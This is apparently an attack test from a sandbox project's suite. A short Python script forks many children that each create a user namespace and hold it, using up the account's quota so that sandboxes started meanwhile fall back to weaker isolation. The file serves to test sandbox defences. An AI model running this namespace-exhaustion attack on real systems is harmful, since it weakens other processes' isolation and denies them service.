"""AIM: uses up the user namespaces of the account (/proc/sys/user/max_user_namespaces counts those of all its children),
    and holds them: sandboxes that start meanwhile would fall back to a lower level, and custom_layer.py beside it reads
    the reference.
KIND: gain
MAX: 0
SAYS: -
RUN: command
IN: few namespaces
SECONDS: 60
"""
from tests.attacks.tools import *

held = []
for _ in range(190):
    ready, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.write(writing, b"y" if LIBC.unshare(0x10000000) == 0 else b"n")
        time.sleep(30)
        os._exit(0)
    if os.read(ready, 1) == b"n":
        break
    held.append(pid)
    os.close(ready), os.close(writing)
print("held", len(held))
time.sleep(25 if len(held) > 5 else 0)
raise ValueError("done")
